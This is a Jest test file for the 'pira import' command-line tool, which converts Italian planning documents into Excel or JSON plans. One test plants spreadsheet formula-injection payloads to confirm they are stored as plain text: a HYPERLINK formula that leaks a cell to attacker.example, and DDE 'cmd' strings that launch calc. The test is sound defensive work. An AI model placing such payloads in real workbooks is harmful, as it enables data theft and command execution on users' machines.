import ExcelJS from "exceljs";
import * as fs from "fs";
import * as path from "path";
import { readXlsxPlan } from "../helpers/xlsx-actions";
import { importDocument } from "../../src/core/import";
import { readPlanJson, writePlanJson } from "../../src/core/plan";
import { SEED_PATH, seedText } from "../helpers/seed";
import { pira, removeDir, tempDir } from "./run";

let dir: string;
beforeEach(() => (dir = tempDir()));
afterEach(() => removeDir(dir));

const at = (name: string) => path.join(dir, name);

describe("pira import", () => {
  it("imports the reference document to .xlsx, printing the counts and writing the report beside it", async () => {
    const r = await pira(["import", SEED_PATH, "-o", at("plan.xlsx")]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/enti:\s+2\n/);
    expect(r.stdout).toMatch(/programmi:\s+14\n/);
    expect(r.stdout).toMatch(/indicatori:\s+87\n/);
    expect(r.stdout).toMatch(/celle non comprese:\s+7\n/);
    expect(r.stdout).toContain(`Rapporto d'importazione: ${at("plan.import.json")}`);
    // the cells not understood are listed on stderr, with line and reason
    expect(r.stderr).toContain("riga 323: «Stato di Salute Finanziaria» — titolo della tabella");
    const report = JSON.parse(fs.readFileSync(at("plan.import.json"), "utf8"));
    expect(report.format).toBe("pira-import-report");
    expect(report.counts).toEqual({
      entities: 2,
      programmes: 14,
      indicators: 87,
      notUnderstood: 7,
    });
    expect(report.notUnderstood).toHaveLength(7);
    expect(report.notUnderstood[0]).toEqual({
      line: 210,
      text: "0,00%",
      reason: "testo di grafico",
    });
    expect(report.layouts.map((l: { layout: string }) => l.layout)).toEqual(["pistoia", "prato"]);
    expect(
      report.diagnostics.every(
        (d: { line: unknown; message: unknown }) =>
          typeof d.line === "number" && typeof d.message === "string"
      )
    ).toBe(true);
    expect(report.diagnosticCounts.info).toBe(report.diagnostics.length);

    const back = await readXlsxPlan(fs.readFileSync(at("plan.xlsx")));
    if (!back.ok) throw new Error(back.reason.en);
    expect(back.result.plan).toEqual(importDocument(seedText()).plan);
  });

  it("imports the reference document to .json: the same plan as the importer's, in English with --lang en", async () => {
    const r = await pira(["import", SEED_PATH, "-o", at("plan.json"), "--lang", "en"]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(
      /entities:\s+2\n[\s\S]*programmes:\s+14\n[\s\S]*indicators:\s+87\n[\s\S]*cells not understood: 7\n/
    );
    const text = fs.readFileSync(at("plan.json"), "utf8");
    expect(text).toBe(writePlanJson(importDocument(seedText()).plan));
    const report = JSON.parse(fs.readFileSync(at("plan.import.json"), "utf8"));
    expect(report.notUnderstood[0].reason).toBe("chart text");
  });

  it("takes a plan (.json) or a workbook (.xlsx) as input too, with no import report", async () => {
    expect((await pira(["import", SEED_PATH, "-o", at("a.json")])).code).toBe(0);
    const x = await pira(["import", at("a.json"), "-o", at("b.xlsx")]);
    expect(x.code).toBe(0);
    expect(x.stdout).toMatch(/indicatori:\s+87\n/);
    expect(fs.existsSync(at("b.import.json"))).toBe(false);
    const j = await pira(["import", at("b.xlsx"), "-o", at("c.json")]);
    expect(j.code).toBe(0);
    expect(readPlanJson(fs.readFileSync(at("c.json"), "utf8"))).toEqual(
      readPlanJson(fs.readFileSync(at("a.json"), "utf8"))
    );
  });

  it("never overwrites an existing output unless --force", async () => {
    fs.writeFileSync(at("plan.xlsx"), "the analyst's work");
    const r = await pira(["import", SEED_PATH, "-o", at("plan.xlsx")]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("esiste già");
    expect(fs.readFileSync(at("plan.xlsx"), "utf8")).toBe("the analyst's work");
    const f = await pira(["import", SEED_PATH, "-o", at("plan.xlsx"), "--force"]);
    expect(f.code).toBe(0);
    expect((await readXlsxPlan(fs.readFileSync(at("plan.xlsx")))).ok).toBe(true);
  });

  it("bad inputs and outputs: exit 2 with a message", async () => {
    const missing = await pira(["import", at("nope.txt"), "-o", at("x.xlsx")]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain(`Il file «${at("nope.txt")}» non esiste.`);
    const noOut = await pira(["import", SEED_PATH]);
    expect(noOut.code).toBe(2);
    expect(noOut.stderr).toContain("manca -o");
    const badOut = await pira(["import", SEED_PATH, "-o", at("x.csv")]);
    expect(badOut.code).toBe(2);
    expect(badOut.stderr).toContain("deve finire in .xlsx (cartella) o .json (piano)");
    fs.writeFileSync(at("doc.docx"), "PK\u0003\u0004whatever");
    const docx = await pira(["import", at("doc.docx"), "-o", at("x.xlsx"), "--lang", "en"]);
    expect(docx.code).toBe(2);
    // a .docx is read now (the analyst's Word tables): one that is not a package says so
    expect(docx.stderr).toContain("doc.docx");
    expect(docx.stderr).toMatch(/not a readable zip package|not a readable Word/);
    fs.writeFileSync(at("bad.json"), '{"format": "pira-plan", "version": 1');
    const json = await pira(["import", at("bad.json"), "-o", at("x.xlsx")]);
    expect(json.code).toBe(2);
    expect(json.stderr).toContain("non è un piano PIRA in JSON");
    expect(fs.existsSync(at("x.xlsx"))).toBe(false);
  });

  it("text that looks like a formula stays text in the written workbook", async () => {
    const payloads = {
      name: '=HYPERLINK("http://attacker.example/?leak="&A1;"Clicca qui")',
      formula: "+cmd|' /C calc'!A0",
      unit: "@SUM(1+1)*cmd|' /C calc'!A0",
      source: "-2+3+cmd|' /C calc'!A0",
    };
    const doc = [
      "<b>Missione 011</b>",
      "Competitività e sviluppo delle imprese",
      "<b>Programma 005</b>",
      "Promozione e attuazione di politiche di sviluppo",
      "",
      "VALENZA INDICATORE\tAlgoritmo di calcolo\tCONSUNTIVO AL 30.9.2021\tCONSUNTIVO AL 31.12.2021\tTARGET 2021\tTARGET 2022\tTARGET 2023\tTipologia indicatore\tunità di misura\tFonte",
      `<b>${payloads.name}</b>\t${payloads.formula}\t10\t20\t30\t30\t30\tIndicatore di volume\t${payloads.unit}\t${payloads.source}`,
    ].join("\n");
    fs.writeFileSync(at("evil.txt"), doc);
    const r = await pira(["import", at("evil.txt"), "-o", at("evil.xlsx")]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/indicatori:\s+1\n/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(fs.readFileSync(at("evil.xlsx")) as unknown as ArrayBuffer);
    const found = new Map<string, unknown>();
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          for (const p of Object.values(payloads)) if (cell.value === p) found.set(p, cell.value);
          const v = cell.value as { formula?: string } | null;
          if (v && typeof v === "object" && typeof v.formula === "string")
            for (const p of Object.values(payloads))
              expect(v.formula).not.toContain(p.replace(/^[=+\-@]/, ""));
        })
      )
    );
    expect([...found.keys()].sort()).toEqual(Object.values(payloads).sort());
    const back = await readXlsxPlan(fs.readFileSync(at("evil.xlsx")));
    if (!back.ok) throw new Error(back.reason.en);
    const ind = back.result.plan.indicators[0];
    expect([ind.name, ind.formula, ind.unit, ind.source]).toEqual(Object.values(payloads));
  });
});

describe("pira import: text encodings", () => {
  let d: string;
  beforeEach(() => (d = tempDir()));
  afterEach(() => removeDir(d));

  it("reads a Windows-1252 document, saying so", async () => {
    const text = seedText().replace(/[^\u0000-\u00ff]/g, " ");
    fs.writeFileSync(path.join(d, "latin1.txt"), Buffer.from(text, "latin1"));
    const r = await pira(["import", path.join(d, "latin1.txt"), "-o", path.join(d, "p.json")]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("non è in UTF-8: letto come Windows-1252");
    expect(r.stdout).toMatch(/indicatori:\s+87\n/);
    const plan = JSON.parse(fs.readFileSync(path.join(d, "p.json"), "utf8"));
    expect(plan.programmes.some((p: { title: string }) => p.title.includes("competitività"))).toBe(
      true
    );
  });
});
